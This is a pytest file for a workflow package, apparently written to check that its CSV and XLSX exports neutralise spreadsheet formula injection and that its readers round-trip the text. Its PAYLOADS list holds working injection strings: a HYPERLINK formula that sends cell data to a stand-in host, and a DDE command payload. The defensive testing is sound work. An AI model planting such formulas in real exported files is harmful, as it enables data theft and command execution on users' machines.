"""CSV injection: no CSV the package writes holds a cell a spreadsheet would run, and our readers get the text back.

The check opens each CSV as a spreadsheet would see it (the csv module, cell by cell) and looks at the first
character of every cell; the round trip reads it back with the package's own readers.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from approvalflow.bpmn.model import Category, RiskLevel
from approvalflow.catalog import Catalog, PowerRow, RiskPointRow, load_catalog, save_catalog
from approvalflow.io.csvsafe import neutralise, restore
from approvalflow.simulation.outputs import write_csv as write_result_csv
from approvalflow.supervision.efficiency import Evaluation, Figures
from approvalflow.supervision.eventlog import LogEvent, Trace, read_log
from approvalflow.supervision.eventlog import write_csv as write_log_csv

# what a spreadsheet takes for the start of a formula (OWASP), written out here rather than imported
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "'",
    "''",
    "'plain",
    "-",
    "+",
    "=",
    "@",
]
PLAIN_NUMBERS = ["-3.5", "+2", "-1e-3", "-0", "-.5", "12"]
SHANGHAI = timezone(timedelta(hours=8))


def _is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower().lstrip("+-") not in ("inf", "infinity", "nan")


def _assert_safe(text: str) -> list[list[str]]:
    """Every cell as a spreadsheet would take it: none may start with a formula character, unless a plain number."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            if cell[:1] in DANGEROUS or cell.lstrip()[:1] in ("=", "+", "-", "@", "＝"):
                assert _is_plain_number(cell), f"a spreadsheet would run {cell!r}"
    return rows


# -- the helper ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_gets_one_quote_and_comes_back(payload: str) -> None:
    if payload in ("'plain",):
        assert neutralise(payload) == "''plain"  # starts with the quote itself: escaped so the reading is clear
    written = neutralise(payload)
    assert written == "'" + payload
    assert restore(written) == payload


@pytest.mark.parametrize("number", PLAIN_NUMBERS)
def test_plain_numbers_are_written_as_they_are(number: str) -> None:
    assert neutralise(number) == number
    assert restore(number) == number


@pytest.mark.parametrize("text", ["-3.5+1", "-inf", "- 3", "+ 2", "-1e", "--1", "-1,5", "-３"])
def test_text_that_only_looks_numeric_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_a_quote_from_another_system_is_kept() -> None:
    # a cell someone typed as 'abc (not what neutralise writes) is text with a quote: kept
    assert restore("'abc") == "'abc"
    assert restore("'-3") == "'-3"


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert written[:1] not in DANGEROUS or _is_plain_number(written)


# -- catalog CSV, in both encodings, and XLSX ---------------------------------------------------------------------
def _catalog() -> Catalog:
    powers = [
        PowerRow(code=f"A-{i}", name=payload.strip() or "x", category=Category.LICENSING, phone="-", basis=p2,
                 extra={"=备注": payload.strip() or "y"})
        for i, (payload, p2) in enumerate(zip(PAYLOADS, [*PAYLOADS[3:], *PAYLOADS[:3]], strict=True))
    ]  # fmt: skip
    risks = [
        RiskPointRow(power="A-0", step="@step", id="-R1", description="=1+1", level=RiskLevel.HIGH,
                     measures=("+审批", "'引号"), post="-3.5")
    ]  # fmt: skip
    return Catalog(powers=powers, risk_points=risks)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_catalog_csv_is_safe_and_lossless(tmp_path: Path, encoding: str) -> None:
    catalog = _catalog()
    path = tmp_path / "清单.csv"
    save_catalog(catalog, path, encoding=encoding)
    for part in (path, tmp_path / "清单.廉政风险点.csv"):
        rows = _assert_safe(part.read_bytes().decode(encoding))
        assert any(cell.startswith("'") for row in rows for cell in row)  # something was neutralised
    risk_rows = list(csv.reader(io.StringIO((tmp_path / "清单.廉政风险点.csv").read_text(encoding=encoding))))
    assert "-3.5" in risk_rows[1]  # a plain number is written as it is
    assert load_catalog(path) == catalog


def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    catalog = _catalog()
    path = tmp_path / "c.xlsx"
    save_catalog(catalog, path)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                sheet = z.read(name).decode("utf-8")
                assert "<f>" not in sheet and "<f " not in sheet
                assert 't="str"' not in sheet  # the type of a formula's cached text
        shared = z.read("xl/sharedStrings.xml").decode("utf-8")
    assert "=HYPERLINK" in shared and "'=" not in shared.replace("'=1+1", "")  # stored as text, no quote added
    book = load_workbook(path)  # not read-only: the data type of each cell
    types = {c.data_type for row in book["权力清单"].iter_rows() for c in row if c.value is not None}
    assert types == {"s"}
    assert load_catalog(path) == catalog


# -- event log, efficiency and simulation CSV ---------------------------------------------------------------------
def test_event_log_csv_is_safe_and_reads_back(tmp_path: Path) -> None:
    at = datetime(2026, 9, 28, 10, tzinfo=SHANGHAI)
    events = [
        LogEvent(p, at + timedelta(hours=i), at, p, p, p, {"note": p}) for i, p in enumerate(PAYLOADS) if p.strip()
    ]
    traces = [Trace("=cmd|'/c calc'!A1", events), Trace("-3.5", events[:1])]
    path = tmp_path / "log.csv"
    write_log_csv(traces, path)
    _assert_safe(path.read_text(encoding="utf-8"))
    back = read_log(path)
    assert [t.case for t in back] == ["=cmd|'/c calc'!A1", "-3.5"]
    assert [(e.activity, e.resource, e.unit, e.role) for e in back[0].events] == [
        (p.strip(), p.strip(), p.strip(), p.strip()) for p in PAYLOADS if p.strip()
    ]


def test_efficiency_csv_neutralises_groups_and_keeps_numbers(tmp_path: Path) -> None:
    ev = Evaluation(None, "month")
    ev.figures("unit", '=HYPERLINK("http://x")').received = 2
    late = ev.figures("post", "@clerk")
    late.add_completion("late", -7, 5, 0)  # a negative figure: a number, not a formula
    text = ev.to_csv()
    rows = _assert_safe(text)
    groups = {row[1]: row for row in rows[1:]}
    assert '\'=HYPERLINK("http://x")' in groups and "'@clerk" in groups
    names = list(Figures().to_json())
    assert groups["'@clerk"][2 + names.index("avg_working_days")] == "-7.0"


def test_simulation_csv_neutralises_names_and_keeps_numbers(tmp_path: Path) -> None:
    result = {
        "model": "=1+1",
        "cases": 3,
        "cycle_time_hours": {"mean": -1.5, "p50": 1.0, "p90": 2.0, "p99": 3.0},
        "waiting_time_hours": {"mean": 0.0},
        "utilization": {"@pool": 0.5, "-post": 0.25},
        "steps": {"+s": {"name": "-决定", "count": 1, "waiting_hours_mean": 0.0, "processing_hours_mean": 0.0}},
        "histogram": {"edges": [0.0, 1.0], "counts": [3]},
    }
    out = tmp_path / "r.csv"
    write_result_csv(result, out)
    rows = _assert_safe(out.read_text(encoding="utf-8-sig"))
    cells = {(s, k, m): v for s, k, m, v in rows[1:]}
    assert cells[("run", "", "model")] == "'=1+1"
    assert cells[("utilization", "'@pool", "share")] == "0.5"
    assert cells[("steps", "'+s", "name")] == "'-决定"
    assert cells[("cycle_time_hours", "", "mean")] == "-1.5"
